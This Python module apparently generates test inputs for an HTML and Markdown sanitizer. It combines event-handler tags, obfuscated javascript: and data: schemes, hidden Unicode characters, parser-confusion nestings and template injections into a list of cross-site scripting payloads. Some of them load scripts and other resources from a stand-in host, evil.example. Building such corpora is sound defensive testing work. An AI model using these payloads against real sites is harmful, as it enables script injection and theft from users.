"""Texts by somebody who means harm, by kinds: each would run a script or ask for a file, were it let through."""

from itertools import product

SCRIPT = "window.hit=1"
HOST = "evil.example"
_TAGS = ("img", "svg", "video", "body", "input autofocus", "details open", "iframe", "object", "a tabindex=1", "x-y")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover")
_BREAKS = (" ", "/", "\t", "\n", "\f", "\r", "&#32;")
_HIDDEN = {
    "noncharacter": "\ufdd0\ufdd1\ufdd2\ufdef\ufffe\U0001fffe",
    "control": "\x01\x02\x03\x08\x0b\x1b\x7f\x85\x9b",
    "line": "\r\u2028\u2029",
    "format": "\u200b\u200d\u2060\ufeff\u00ad\u202e\u2066\U000e0041",
    "private": "\ue000\U000f000d",
}
_SCHEMES = (
    *(
        "javascript:{}",
        "JaVaScRiPt:{}",
        "java\tscript:{}",
        "&#106;avascript:{}",
        "&#x6a avascript:{}",
        "java&Tab;script:{}",
    ),
    *(
        "\x01javascript:{}",
        " javascript:{}",
        "javascript&colon;{}",
        "%6aavascript:{}",
        "javascript://%0a{}",
        "vbscript:{}",
    ),
    *("data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:{}", "view-source:{}"),
)
_HOSTS = (
    *(
        "https://{}/a",
        "http://{}/a",
        "//{}/a",
        "///{}/a",
        "/\\{}/a",
        "\\\\{}/a",
        "https:{}/a",
        "https:///{}/a",
        "/\t/{}/a",
    ),
    *("https://larkline.example@{}/a", "https://larkline.example.{}/a", "HTTPS://{}/a", "ht\ntps://{}/a", "ftp://{}/a"),
)
_LINKS = ("[x]({})", "[x](<{}>)", "<{}>", '[x]({} "y")', "![x]({})", '<a href="{}">x</a>', "<img src={}>", "[x]: {}")
_ASKING = (
    *('<script src="//{}/a"></script>', '<link rel="stylesheet" href="//{}/a">', "<style>@import url(//{}/a)</style>"),
    *(
        '<meta http-equiv="refresh" content="0;url=//{}/a">',
        '<base href="//{}/">',
        '<b style="background:url(//{}/a)">x</b>',
    ),
    *('<form action="//{}/a"><button>x</button></form>', '<img srcset="//{}/a 1x">', '<video poster="//{}/a"></video>'),
    *('<svg><image href="//{}/a"/></svg>', '<object data="//{}/a"></object>', '<iframe src="//{}/a"></iframe>'),
    *('<input type="image" src="//{}/a">', '<body background="//{}/a">', "*x*{{: style=background:url(//{}/a) }}"),
)
_NESTED = (
    "<svg><style><img src=x onerror={}></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>',
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    '<a title="</a><img src=x onerror={}>">x</a>',
    "<template><img src=x onerror={}></template>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?x ><img src=x onerror={}>?>",
    "</main></body><img src=x onerror={}>",
    "</p></td></tr></table><img src=x onerror={}>",
    "</title><img src=x onerror={}>",
    "</script><img src=x onerror={}>",
    "</style></textarea></noscript></template><img src=x onerror={}>",
    "--></title></script><svg onload={}>",
    "<style></style ><img src=x onerror={}>",
    '<img title="`" alt="`><img src=x onerror={}>">',
    "`<img src=x onerror={}>",
    "``` \n<img src=x onerror={}>\n```",
    "<a<img src=x onerror={}>",
    "<img src='x' onerror='{}'",
    "<<img src=x onerror={}>>",
    "\\<img src=x onerror={}>",
    '![" onerror="{}](x)',
    '[x](/x "y\\" onclick=\\"{}")',
    "[<img src=x onerror={}>](/x)",
    "![<img src=x onerror={}>](x)",
    "[x][<img src=x onerror={}>]",
    '<span title="',
    '" onclick={} x="',
    '<div markdown="1" onclick={}>x</div>',
    "x {{: onclick={} }}",
    "*x*{{: onclick={} style=position:fixed }}",
    "[x](/x){{ onclick={} }}",
    "# x {{: onclick={} }}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% include {} %}}",
    "wzxhzdk:0 klzzwxh:0000 <b onclick={}>",
    "\x02wzxhzdk:0\x03\x02klzzwxh:0001\x03<i onclick={}>",
    '<b style="position:fixed;inset:0" onmouseover={}>x</b>',
    '<b id="main" class="untranslated" onclick={}>x</b>',
    "*[x]: <img src=x onerror={}>",
    "[^1]: <img src=x onerror={}>",
    "!!! note\n    <img src=x onerror={}>",
    "x\n\n    <img src=x onerror={}>",
    "x\n===\n<img src=x onerror={}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={}> | c |",
    "&lt;img src=x onerror={}&gt; &#60;img src=x onerror={}&#62;",
)


def payloads() -> list[str]:
    """All of them, each once."""
    found = [f"<{tag} src=x {event}={SCRIPT}>" for tag, event in product(_TAGS, _EVENTS)]
    found += [f"<{tag}{gap}src=x{gap}onerror={SCRIPT}{gap}>" for tag, gap in product(("img", "IMG", "ImG"), _BREAKS)]
    for characters in _HIDDEN.values():
        found += [
            text
            for one in characters
            for text in (
                f"<{one}script>{SCRIPT}</{one}script>",
                f"<im{one}g src=x onerror={SCRIPT}>",
                f"[x](java{one}script:{SCRIPT})",
            )
        ]
    found += [link.format(scheme.format(SCRIPT)) for link, scheme in product(_LINKS, _SCHEMES)]
    found += [link.format(host.format(HOST)) for link, host in product(_LINKS, _HOSTS)]
    found += [text.format(HOST) for text in _ASKING]
    found += [text.replace("{}", SCRIPT).replace("{{", "{").replace("}}", "}") for text in _NESTED]
    return list(dict.fromkeys(found))
